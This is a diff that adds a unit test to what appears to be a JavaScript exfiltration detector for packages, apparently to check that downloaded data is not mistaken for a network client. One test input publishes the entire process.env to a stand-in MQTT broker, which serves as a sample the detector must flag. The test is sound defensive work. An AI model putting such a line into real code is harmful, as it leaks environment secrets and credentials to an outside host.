@@ -1319,6 +1319,15 @@ exports.list = async function list() {
     if (firebase.mode !== 'ast') throw new Error('not parsed');
     expect(fileBehaviour(firebase).exfiltration.length).toBeGreaterThan(0);
   });
+
+  it("what another module's function downloads from a URL is data, not a client; names built from it are not clients either (sv)", () => {
+    const sv = analyzeJavaScript(`import { downloadJson } from '@sveltejs/sv-utils';\nconst data = await downloadJson('https://svelte.dev/playground/api/x.json');\nconst value = data.files;\nconst previous = [value];\nconst env = { ...process.env, FORCE: '1' };\nprevious.push(env);\nexport default previous;\n`);
+    if (sv.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(sv).exfiltration).toEqual([]);
+    const mqtt = analyzeJavaScript(`const mqtt = require('mqtt');\nconst client = mqtt.connect('mqtt://broker.example.net');\nclient.publish('t', JSON.stringify(process.env));\n`);
+    if (mqtt.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(mqtt).exfiltration.length).toBeGreaterThan(0);
+  });
 });
 
 describe('code hidden as hex', () => {
